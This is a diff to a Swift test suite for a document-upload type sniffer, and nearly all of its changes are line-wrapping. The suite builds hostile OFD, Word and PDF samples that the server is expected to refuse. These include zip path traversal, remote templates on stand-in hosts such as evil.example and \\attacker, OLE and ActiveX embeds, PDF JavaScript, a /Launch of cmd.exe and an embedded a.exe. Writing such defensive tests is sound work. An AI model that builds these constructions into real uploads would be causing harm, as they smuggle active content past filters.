@@ -1,8 +1,9 @@
 import Foundation
 import Testing
 import Vapor
-@testable import ZhengxinServer
 import ZhengxinCore
+
+@testable import ZhengxinServer
 
 /// Upload types are named from the whole content by libmagic and checked for what libmagic does
 /// not judge (polyglots, markup, scripts): each hostile sample is refused with 415, each real
@@ -33,11 +34,15 @@ struct DocumentTypeSniffingTests {
             #expect(!refusal.reason.isEmpty, "\(sample.label)")
         }
         for sample in Self.accepted {
-            #expect(DocumentSniffer.contentType(of: sample.bytes) == sample.type, "\(sample.label): \(DocumentSniffer.verdict(of: sample.bytes))")
+            #expect(
+                DocumentSniffer.contentType(of: sample.bytes) == sample.type,
+                "\(sample.label): \(DocumentSniffer.verdict(of: sample.bytes))")
         }
     }
 
-    @Test("uploads: hostile samples 415 with the reason, nothing stored; real documents 201 with the type read from them", arguments: Backend.all)
+    @Test(
+        "uploads: hostile samples 415 with the reason, nothing stored; real documents 201 with the type read from them",
+        arguments: Backend.all)
     func uploads(_ backend: Backend) async throws {
         try await TestWorld.with(backend) { world in
             var w = Walk(world)
@@ -45,7 +50,8 @@ struct DocumentTypeSniffingTests {
             let before = try await HostileInputTests.state(world, w.projectId)
             for sample in SampleDocuments.hostile {
                 // The claimed type and name are ignored; the bytes decide.
-                let reply = try await HostileInputTests.upload(world, w.projectId, filename: "report.pdf", bytes: sample.bytes, type: "application/pdf")
+                let reply = try await HostileInputTests.upload(
+                    world, w.projectId, filename: "report.pdf", bytes: sample.bytes, type: "application/pdf")
                 HostileInputTests.expectRefused(reply, sample.label, status: .unsupportedMediaType)
                 #expect(reply.errorCode == "UNSUPPORTED_DOCUMENT_TYPE", "\(sample.label)")
                 #expect(reply.violations.first?["field"] as? String == "file", "\(sample.label): the reason names the file")
@@ -56,8 +62,9 @@ struct DocumentTypeSniffingTests {
                 #expect(reply.status == .created, "\(sample.label): \(reply.status) \(reply.violations)")
                 let doc = (reply.project["documents"] as? [[String: Any]])?.last
                 #expect(doc?["contentType"] as? String == sample.type, "\(sample.label)")
-                let download = try await world.app.testing().sendRequest(.GET, "/api/v1/projects/\(w.projectId)/documents/\(i + 1)",
-                                                                         headers: ["Authorization": "Bearer \(world.tokens["unitA"]!)"])
+                let download = try await world.app.testing().sendRequest(
+                    .GET, "/api/v1/projects/\(w.projectId)/documents/\(i + 1)",
+                    headers: ["Authorization": "Bearer \(world.tokens["unitA"]!)"])
                 #expect(Data(buffer: download.body) == sample.bytes, "\(sample.label)")
                 #expect(download.headers.first(name: .contentType) == sample.type)
             }
@@ -75,7 +82,8 @@ struct DocumentTypeSniffingTests {
     static func ofdWithUnicodePath() -> Data {
         // Info-ZIP Unicode Path (0x7075): version 1, CRC-32 of the header name, then the name unzip uses.
         let second = Array("../../evil.html".utf8)
-        let field = SampleDocuments.le16(0x7075) + SampleDocuments.le16(UInt16(5 + second.count)) + [1]
+        let field =
+            SampleDocuments.le16(0x7075) + SampleDocuments.le16(UInt16(5 + second.count)) + [1]
             + SampleDocuments.le32(SampleDocuments.crc32(Array("Doc_0/Res/a.png".utf8))) + second
         var entry = Z("Doc_0/Res/a.png", bytes: Array(SampleDocuments.png()))
         entry.extra = field
@@ -92,7 +100,8 @@ struct DocumentTypeSniffingTests {
     /// bring in what a document must not: each with the code it is refused under.
     static var hostilePackages: [(label: String, bytes: Data, code: String)] {
         let ole: [UInt8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1] + [UInt8](repeating: 0, count: 56)
-        let external = #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>"#
+        let external =
+            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>"#
         let utf16: [UInt8] = [0xFF, 0xFE] + H.documentRels(external).utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
         return [
             ("OFD entry ../x", H.ofd([Z("../x", "x")]), "DOC-ZIP-ENTRY-NAME"),
@@ -100,39 +109,112 @@ struct DocumentTypeSniffingTests {
             ("OFD entry climbing with %2e%2e", H.ofd([Z("Doc_0/%2e%2e/%2e%2e/evil.xml", "<x/>")]), "DOC-ZIP-ENTRY-NAME"),
             ("OFD entry with backslashes", H.ofd([Z(#"Doc_0\..\evil.xml"#, "<x/>")]), "DOC-ZIP-ENTRY-NAME"),
             ("OFD entry with a second name in an extra field", ofdWithUnicodePath(), "DOC-ZIP-ENTRY-NAME"),
-            ("OFD with a second OFD.xml", H.zip([Z("OFD.xml", H.ofdXML), Z("Doc_0/Document.xml", H.ofdDocument),
-                                                 Z("OFD.xml", H.ofdXML.replacingOccurrences(of: "Doc_0", with: "Doc_1"))]), "DOC-ZIP-DUPLICATE-ENTRY"),
+            (
+                "OFD with a second OFD.xml",
+                H.zip([
+                    Z("OFD.xml", H.ofdXML), Z("Doc_0/Document.xml", H.ofdDocument),
+                    Z("OFD.xml", H.ofdXML.replacingOccurrences(of: "Doc_0", with: "Doc_1")),
+                ]), "DOC-ZIP-DUPLICATE-ENTRY"
+            ),
             ("OFD entries differing by case", H.ofd([Z("DOC_0/DOCUMENT.XML", H.ofdDocument)]), "DOC-ZIP-DUPLICATE-ENTRY"),
             ("OFD local header checksum unlike the directory's", ofdWithLocalChecksum(), "DOC-ZIP-STRUCTURE"),
             ("OFD with an SVG part", H.ofd([Z("Doc_0/Res/evil.svg", "<svg onload=alert(1)>")]), "DOC-OFD-ENTRY"),
             ("OFD with a file outside Doc_N", H.ofd([Z("readme.pdf", "%PDF-1.4")]), "DOC-OFD-ENTRY"),
-            ("OFD with an attachment", H.ofd([Z("Doc_0/Attachs/Attachments.xml", "<ofd:Attachments/>"), Z("Doc_0/Attachs/plan.docx", bytes: Array(SampleDocuments.docx()))]),
-             "DOC-OFD-ATTACHMENT"),
+            (
+                "OFD with an attachment",
+                H.ofd([
+                    Z("Doc_0/Attachs/Attachments.xml", "<ofd:Attachments/>"),
+                    Z("Doc_0/Attachs/plan.docx", bytes: Array(SampleDocuments.docx())),
+                ]),
+                "DOC-OFD-ATTACHMENT"
+            ),
             ("Word with word/embeddings/oleObject1.bin", H.docx([Z("word/embeddings/oleObject1.bin", bytes: ole)]), "DOC-OFFICE-EMBEDDED"),
             ("Word with %-escaped embeddings", H.docx([Z("word/%65mbeddings/package1.bin", bytes: ole)]), "DOC-OFFICE-EMBEDDED"),
-            ("Word with an external relationship (deflated .rels)", H.docx([Z("word/_rels/document.xml.rels", H.documentRels(external), deflated: true)]),
-             "DOC-OFFICE-EXTERNAL"),
-            ("Word with an external relationship spelled with references",
-             H.docx([Z("word/_rels/document.xml.rels", H.documentRels(#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="&#104;ttp://evil.example/a.png" TargetMode='&#69;xternal'/>"#))]),
-             "DOC-OFFICE-EXTERNAL"),
-            ("Word with an external relationship in UTF-16", H.docx([Z("word/_rels/document.xml.rels", bytes: utf16, deflated: true)]), "DOC-OFFICE-EXTERNAL"),
-            ("Word with a file:// target", H.docx([Z("word/_rels/document.xml.rels", H.documentRels(#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil/share/a.png"/>"#))]),
-             "DOC-OFFICE-EXTERNAL"),
-            ("Word with an external relationship in the package .rels", H.zip([Z("[Content_Types].xml", H.contentTypes),
-                                                                                Z("_rels/.rels", H.documentRels(external)), Z("word/document.xml", H.documentXML)]),
-             "DOC-OFFICE-EXTERNAL"),
-            ("Word with an OLE object relationship", H.docx([Z("word/_rels/document.xml.rels", H.documentRels(#"<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/object.bin"/>"#)),
-                                                            Z("word/media/object.bin", bytes: ole)]), "DOC-OFFICE-EMBEDDED"),
-            ("Word declared macro-enabled", H.docx([], contentTypes: H.contentTypes.replacingOccurrences(of: "wordprocessingml.document.main+xml", with: "wordprocessingml.document.macroEnabled.main+xml")
-                .replacingOccurrences(of: "application/vnd.openxmlformats-officedocument.wordprocessingml.document.macroEnabled", with: "application/vnd.ms-word.document.macroEnabled")),
-             "DOC-OFFICE-MACRO"),
+            (
+                "Word with an external relationship (deflated .rels)",
+                H.docx([Z("word/_rels/document.xml.rels", H.documentRels(external), deflated: true)]),
+                "DOC-OFFICE-EXTERNAL"
+            ),
+            (
+                "Word with an external relationship spelled with references",
+                H.docx([
+                    Z(
+                        "word/_rels/document.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="&#104;ttp://evil.example/a.png" TargetMode='&#69;xternal'/>"#
+                        ))
+                ]),
+                "DOC-OFFICE-EXTERNAL"
+            ),
+            (
+                "Word with an external relationship in UTF-16", H.docx([Z("word/_rels/document.xml.rels", bytes: utf16, deflated: true)]),
+                "DOC-OFFICE-EXTERNAL"
+            ),
+            (
+                "Word with a file:// target",
+                H.docx([
+                    Z(
+                        "word/_rels/document.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil/share/a.png"/>"#
+                        ))
+                ]),
+                "DOC-OFFICE-EXTERNAL"
+            ),
+            (
+                "Word with an external relationship in the package .rels",
+                H.zip([
+                    Z("[Content_Types].xml", H.contentTypes),
+                    Z("_rels/.rels", H.documentRels(external)), Z("word/document.xml", H.documentXML),
+                ]),
+                "DOC-OFFICE-EXTERNAL"
+            ),
+            (
+                "Word with an OLE object relationship",
+                H.docx([
+                    Z(
+                        "word/_rels/document.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/object.bin"/>"#
+                        )),
+                    Z("word/media/object.bin", bytes: ole),
+                ]), "DOC-OFFICE-EMBEDDED"
+            ),
+            (
+                "Word declared macro-enabled",
+                H.docx(
+                    [],
+                    contentTypes: H.contentTypes.replacingOccurrences(
+                        of: "wordprocessingml.document.main+xml", with: "wordprocessingml.document.macroEnabled.main+xml"
+                    )
+                    .replacingOccurrences(
+                        of: "application/vnd.openxmlformats-officedocument.wordprocessingml.document.macroEnabled",
+                        with: "application/vnd.ms-word.document.macroEnabled")),
+                "DOC-OFFICE-MACRO"
+            ),
             ("Word with ActiveX", H.docx([Z("word/activeX/activeX1.xml", "<ax:ocx/>")]), "DOC-OFFICE-MACRO"),
-            ("Word with a chart workbook fetched from a share",
-             H.docx([Z("word/charts/_rels/chart1.xml.rels", H.documentRels(#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="\\attacker\s\d.xlsx" TargetMode="External"/>"#))]),
-             "DOC-OFFICE-EXTERNAL"),
-            ("Word with a relationship's target given twice",
-             H.docx([Z("word/_rels/document.xml.rels", H.documentRels(#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\evil\t.png" r:Target="media/image1.png"/>"#))]),
-             "DOC-OFFICE-STRUCTURE"),
+            (
+                "Word with a chart workbook fetched from a share",
+                H.docx([
+                    Z(
+                        "word/charts/_rels/chart1.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="\\attacker\s\d.xlsx" TargetMode="External"/>"#
+                        ))
+                ]),
+                "DOC-OFFICE-EXTERNAL"
+            ),
+            (
+                "Word with a relationship's target given twice",
+                H.docx([
+                    Z(
+                        "word/_rels/document.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\evil\t.png" r:Target="media/image1.png"/>"#
+                        ))
+                ]),
+                "DOC-OFFICE-STRUCTURE"
+            ),
         ]
     }
 
@@ -140,30 +222,71 @@ struct DocumentTypeSniffingTests {
     static var hostilePDFs: [(label: String, bytes: Data, code: String)] {
         let script = "<< /S /JavaScript /JS (app.alert(1)) >>"
         return [
-            ("PDF with /J#61vaScript", H.pdf(catalog: "/AA << /WC 5 0 R >> ", more: [Array("<< /S /J#61vaScript /J#53 (app.alert(1)) >>".utf8)]), "DOC-PDF-ACTIVE"),
-            ("PDF with /JavaScript in a zlib object stream", H.pdf(catalog: "/AA << /WC 20 0 R >> ", more: [H.objectStream([script])]), "DOC-PDF-ACTIVE"),
-            ("PDF with /Launch in an object stream without /Type", H.pdf(catalog: "/AA << /WC 20 0 R >> ",
-                                                                         more: [H.objectStream(["<< /S /Launch /F (cmd.exe) >>"], type: false)]), "DOC-PDF-ACTIVE"),
-            ("PDF fetching an address on opening a page, in an object stream of indirect length",
-             H.pdf(more: [H.objectStream(["<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>"], indirectLength: true)]), "DOC-PDF-ACTIVE"),
-            ("PDF with an object stream in an encoding not read", H.pdf(more: [H.objectStream([script], filter: "/ASCIIHexDecode")]),
-             "DOC-PDF-OBJECT-STREAM"),
-            ("PDF with an object stream zlib cannot inflate", H.pdf(more: [Array("<< /Type /ObjStm /N 1 /First 5 /Length 12 /Filter /FlateDecode >>\nstream\n".utf8)
-                                                                        + [0x78, 0x9C] + [UInt8](repeating: 0xFF, count: 10) + Array("\nendstream".utf8)]),
-             "DOC-PDF-OBJECT-STREAM"),
+            (
+                "PDF with /J#61vaScript",
+                H.pdf(catalog: "/AA << /WC 5 0 R >> ", more: [Array("<< /S /J#61vaScript /J#53 (app.alert(1)) >>".utf8)]), "DOC-PDF-ACTIVE"
+            ),
+            (
+                "PDF with /JavaScript in a zlib object stream", H.pdf(catalog: "/AA << /WC 20 0 R >> ", more: [H.objectStream([script])]),
+                "DOC-PDF-ACTIVE"
+            ),
+            (
+                "PDF with /Launch in an object stream without /Type",
+                H.pdf(
+                    catalog: "/AA << /WC 20 0 R >> ",
+                    more: [H.objectStream(["<< /S /Launch /F (cmd.exe) >>"], type: false)]), "DOC-PDF-ACTIVE"
+            ),
+            (
+                "PDF fetching an address on opening a page, in an object stream of indirect length",
+                H.pdf(more: [
+                    H.objectStream(["<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>"], indirectLength: true)
+                ]), "DOC-PDF-ACTIVE"
+            ),
+            (
+                "PDF with an object stream in an encoding not read", H.pdf(more: [H.objectStream([script], filter: "/ASCIIHexDecode")]),
+                "DOC-PDF-OBJECT-STREAM"
+            ),
+            (
+                "PDF with an object stream zlib cannot inflate",
+                H.pdf(more: [
+                    Array("<< /Type /ObjStm /N 1 /First 5 /Length 12 /Filter /FlateDecode >>\nstream\n".utf8)
+                        + [0x78, 0x9C] + [UInt8](repeating: 0xFF, count: 10) + Array("\nendstream".utf8)
+                ]),
+                "DOC-PDF-OBJECT-STREAM"
+            ),
             ("PDF with an action on opening", H.pdf(catalog: "/OpenAction << /S /Named /N /Print >> "), "DOC-PDF-ACTIVE"),
-            ("PDF with an action on opening by reference", H.pdf(catalog: "/OpenAction 5 0 R ", more: [Array("<< /S /Named /N /Print >>".utf8)]), "DOC-PDF-ACTIVE"),
-            ("PDF with an action on opening packed in an object stream", H.pdf(catalog: "/OpenAction 20 0 R ", more: [H.objectStream(["<< /S /GoTo /D [3 0 R /Fit] /Next 21 0 R >>"])]),
-             "DOC-PDF-ACTIVE"),
+            (
+                "PDF with an action on opening by reference",
+                H.pdf(catalog: "/OpenAction 5 0 R ", more: [Array("<< /S /Named /N /Print >>".utf8)]), "DOC-PDF-ACTIVE"
+            ),
+            (
+                "PDF with an action on opening packed in an object stream",
+                H.pdf(catalog: "/OpenAction 20 0 R ", more: [H.objectStream(["<< /S /GoTo /D [3 0 R /Fit] /Next 21 0 R >>"])]),
+                "DOC-PDF-ACTIVE"
+            ),
             ("PDF opening at an object that is not there", H.pdf(catalog: "/OpenAction 77 0 R "), "DOC-PDF-ACTIVE"),
-            ("PDF fetching an address on opening", H.pdf(catalog: "/AA << /WC 5 0 R >> ", more: [Array("<< /S /URI /URI (http://evil.example) >>".utf8)]), "DOC-PDF-ACTIVE"),
-            ("PDF with an embedded file", H.pdf(catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
-                                                more: [Array("<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>".utf8)]), "DOC-PDF-ACTIVE"),
-            ("PDF with XFA", H.pdf(catalog: "/AcroForm << /Fields [] /XFA 5 0 R >> ", more: [Array("<< /Length 0 >>\nstream\n\nendstream".utf8)]), "DOC-PDF-ACTIVE"),
+            (
+                "PDF fetching an address on opening",
+                H.pdf(catalog: "/AA << /WC 5 0 R >> ", more: [Array("<< /S /URI /URI (http://evil.example) >>".utf8)]), "DOC-PDF-ACTIVE"
+            ),
+            (
+                "PDF with an embedded file",
+                H.pdf(
+                    catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
+                    more: [Array("<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>".utf8)]), "DOC-PDF-ACTIVE"
+            ),
+            (
+                "PDF with XFA",
+                H.pdf(catalog: "/AcroForm << /Fields [] /XFA 5 0 R >> ", more: [Array("<< /Length 0 >>\nstream\n\nendstream".utf8)]),
+                "DOC-PDF-ACTIVE"
+            ),
             ("PDF with RichMedia", H.pdf(more: [Array("<< /Type /Annot /Subtype /RichMedia >>".utf8)]), "DOC-PDF-ACTIVE"),
             ("PDF with an unterminated string", H.pdf(catalog: "/Title (never closed "), "DOC-PDF-STRUCTURE"),
-            ("PDF with a stream hidden inside what reads as a string", H.pdf(catalog: "/Title (x << /N 1 /First 4 /Length 9 >>\nstream\nAAAAAAAAA\nendstream) "),
-             "DOC-PDF-STRUCTURE"),
+            (
+                "PDF with a stream hidden inside what reads as a string",
+                H.pdf(catalog: "/Title (x << /N 1 /First 4 /Length 9 >>\nstream\nAAAAAAAAA\nendstream) "),
+                "DOC-PDF-STRUCTURE"
+            ),
             ("PDF opening at an object also written with a leading zero", leadingZeroDecoy(), "DOC-PDF-ACTIVE"),
         ]
     }
@@ -179,25 +302,59 @@ struct DocumentTypeSniffingTests {
     static var acceptedStructures: [(label: String, bytes: Data, type: String)] {
         let png = Array(SampleDocuments.png())
         return [
-            ("PDF with a clean zlib object stream", H.pdf(more: [H.objectStream(["<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", "<< /Producer (WPS) >>"])]),
-             "application/pdf"),
+            (
+                "PDF with a clean zlib object stream",
+                H.pdf(more: [H.objectStream(["<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", "<< /Producer (WPS) >>"])]),
+                "application/pdf"
+            ),
             ("PDF opening at its first page", H.pdf(catalog: "/OpenAction [3 0 R /Fit] "), "application/pdf"),
-            ("PDF opening through a packed /GoTo action, as LaTeX writes it", H.pdf(catalog: "/OpenAction 20 0 R ", more: [H.objectStream(["<< /S /GoTo /D [3 0 R /Fit] >>"])]),
-             "application/pdf"),
-            ("Word as Word writes it: deflated parts, an internal image relationship",
-             H.docx([Z("word/_rels/document.xml.rels", H.documentRels(#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>"#), deflated: true),
-                     Z("word/media/image1.png", bytes: png)]),
-             "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
-            ("PDF with a link the reader clicks", H.pdf(more: [Array("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://fgw.zhengzhou.gov.cn) >> >>".utf8)]),
-             "application/pdf"),
-            ("Word with a hyperlink to a web address and a chart's workbook",
-             H.docx([Z("word/_rels/document.xml.rels", H.documentRels(#"<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://fgw.zhengzhou.gov.cn/" TargetMode="External"/>"#), deflated: true),
-                     Z("word/charts/_rels/chart1.xml.rels", H.documentRels(#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>"#)),
-                     Z("word/embeddings/Microsoft_Excel_Worksheet.xlsx", bytes: Array(SampleDocuments.docx()))]),
-             "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
-            ("OFD with a page, an image, a font and a signature", H.ofd([Z("Doc_0/Pages/Page_0/Content.xml", "<ofd:Page/>", deflated: true), Z("Doc_0/Res/image_1.png", bytes: png),
-                                                                       Z("Doc_0/Res/font_1.ttf", bytes: [0, 1, 0, 0, 0, 0]), Z("Doc_0/Signs/Sign_0/SignedValue.dat", bytes: [0x30, 0x82])]),
-             "application/ofd"),
+            (
+                "PDF opening through a packed /GoTo action, as LaTeX writes it",
+                H.pdf(catalog: "/OpenAction 20 0 R ", more: [H.objectStream(["<< /S /GoTo /D [3 0 R /Fit] >>"])]),
+                "application/pdf"
+            ),
+            (
+                "Word as Word writes it: deflated parts, an internal image relationship",
+                H.docx([
+                    Z(
+                        "word/_rels/document.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>"#
+                        ), deflated: true),
+                    Z("word/media/image1.png", bytes: png),
+                ]),
+                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+            ),
+            (
+                "PDF with a link the reader clicks",
+                H.pdf(more: [Array("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://fgw.zhengzhou.gov.cn) >> >>".utf8)]),
+                "application/pdf"
+            ),
+            (
+                "Word with a hyperlink to a web address and a chart's workbook",
+                H.docx([
+                    Z(
+                        "word/_rels/document.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://fgw.zhengzhou.gov.cn/" TargetMode="External"/>"#
+                        ), deflated: true),
+                    Z(
+                        "word/charts/_rels/chart1.xml.rels",
+                        H.documentRels(
+                            #"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>"#
+                        )),
+                    Z("word/embeddings/Microsoft_Excel_Worksheet.xlsx", bytes: Array(SampleDocuments.docx())),
+                ]),
+                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+            ),
+            (
+                "OFD with a page, an image, a font and a signature",
+                H.ofd([
+                    Z("Doc_0/Pages/Page_0/Content.xml", "<ofd:Page/>", deflated: true), Z("Doc_0/Res/image_1.png", bytes: png),
+                    Z("Doc_0/Res/font_1.ttf", bytes: [0, 1, 0, 0, 0, 0]), Z("Doc_0/Signs/Sign_0/SignedValue.dat", bytes: [0x30, 0x82]),
+                ]),
+                "application/ofd"
+            ),
         ]
     }
 
@@ -209,7 +366,9 @@ struct DocumentTypeSniffingTests {
             #expect(!(refusal?.reason.isEmpty ?? true), "\(sample.label)")
         }
         for sample in Self.acceptedStructures {
-            #expect(DocumentSniffer.contentType(of: sample.bytes) == sample.type, "\(sample.label): \(DocumentSniffer.verdict(of: sample.bytes))")
+            #expect(
+                DocumentSniffer.contentType(of: sample.bytes) == sample.type,
+                "\(sample.label): \(DocumentSniffer.verdict(of: sample.bytes))")
         }
     }
 
@@ -221,7 +380,8 @@ struct DocumentTypeSniffingTests {
         }
     }
 
-    @Test("uploads of hostile packages and PDFs: 415 with the refusal's code as the violation's rule, nothing stored", arguments: Backend.all)
+    @Test(
+        "uploads of hostile packages and PDFs: 415 with the refusal's code as the violation's rule, nothing stored", arguments: Backend.all)
     func hostileStructureUploads(_ backend: Backend) async throws {
         try await TestWorld.with(backend) { world in
             var w = Walk(world)
